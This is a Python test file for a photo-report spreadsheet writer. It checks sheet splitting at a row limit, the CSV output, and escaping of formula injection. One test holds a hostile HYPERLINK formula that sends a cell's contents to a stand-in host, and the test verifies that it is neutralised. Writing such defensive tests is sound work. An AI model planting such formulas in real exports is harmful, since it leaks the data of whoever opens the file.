"""The report's spreadsheet: written a deployment at a time, streamed row by row, continued on a
new sheet at Excel's limit."""

from __future__ import annotations

import io

import pandas as pd

from trapline.services.tools.report_sheet import write_sheets


def test_chunks_make_one_csv_and_a_workbook_continued_on_numbered_sheets(tmp_path):
    frame = pd.DataFrame({
        "media_id": [f"m{i}" for i in range(7)],
        "animal_count": [i % 3 for i in range(7)],
        "max_detection_conf": [0.5, None, 0.9, 0.1, None, 0.2, 0.3],
    })  # fmt: skip
    chunks = [frame.iloc[:2], frame.iloc[2:7]]  # two deployments; a sheet ends inside the second
    path, csv = tmp_path / "photos.xlsx", io.StringIO()
    with path.open("wb") as handle:
        sheets = write_sheets(iter(chunks), csv, handle, rows_per_sheet=3)
    read = pd.read_excel(path, sheet_name=None)
    assert sheets == 3 and list(read) == ["photos", "photos 2", "photos 3"]
    assert [len(page) for page in read.values()] == [3, 3, 1]
    back = pd.concat(read.values(), ignore_index=True)
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)  # NaN stays an empty cell
    csv.seek(0)
    pd.testing.assert_frame_equal(pd.read_csv(csv), frame)  # one header, every row once


def test_no_media_still_gives_the_columns(tmp_path):
    empty = pd.DataFrame({"media_id": pd.Series([], dtype=object)})
    path, csv = tmp_path / "photos.xlsx", io.StringIO()
    with path.open("wb") as handle:
        assert write_sheets(iter([empty]), csv, handle) == 1
    assert csv.getvalue().strip() == "media_id"
    assert list(pd.read_excel(path)) == ["media_id"]


def test_text_that_would_run_as_a_formula_is_text_in_both_files(tmp_path):
    """A reviewer's typed label `=HYPERLINK(...)` became a live formula in photos.xlsx and sat
    raw in photos.csv (issue 37, item 5)."""
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://x.example/?leak="&A2,"open")'
    chunk = pd.DataFrame(
        {"final_label": [hostile, "fox", "@SUM(1)", "-2+3"], "animal_count": [1, 2, -1, 0]}
    )
    csv, xlsx = io.StringIO(), tmp_path / "photos.xlsx"
    write_sheets([chunk], csv, xlsx)
    rows = csv.getvalue().splitlines()
    assert rows[1].startswith("\"'=HYPERLINK(") and rows[3] == "'@SUM(1),-1"
    assert rows[4] == "'-2+3,0" and rows[2] == "fox,2"  # numbers stay numbers
    sheet = load_workbook(xlsx)["photos"]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == hostile  # the exact text, not a formula
    assert sheet["B4"].value == -1
